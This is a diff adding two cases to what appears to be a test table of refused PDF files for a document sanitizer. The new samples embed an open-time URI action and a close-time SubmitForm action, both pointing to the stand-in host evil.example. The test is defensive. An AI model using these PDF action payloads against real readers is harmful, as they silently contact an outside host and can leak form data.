@@ -217,6 +217,14 @@ REFUSED_DOCUMENTS: dict[str, tuple[Callable[[], bytes], str]] = {
     "script in disguise.pdf": (lambda: pdf_with(RUNS.replace(b"/JavaS", b"/J#61va#53")), "javascript"),
     "packed script.pdf": (lambda: pdf_with(RUNS, packed=True), "javascript"),
     "program.pdf": (lambda: pdf_with(LAUNCHES, packed=True), "launch"),
+    "asks when opened.pdf": (
+        lambda: pdf_with(b"/OpenAction << /S /URI /URI (http://evil.example/) >>"),
+        "launch",
+    ),
+    "sends when closed.pdf": (
+        lambda: pdf_with(b"/AA << /WC << /S /SubmitForm /F (http://evil.example/) >> >>"),
+        "launch",
+    ),
     "portfolio.pdf": (lambda: pdf_with(HOLDS), "embedded"),
     "twice packed.pdf": (
         lambda: pdf_with(RUNS, packed=True).replace(b"/FlateDecode", b"[/ASCIIHexDecode /FlateDecode]"),
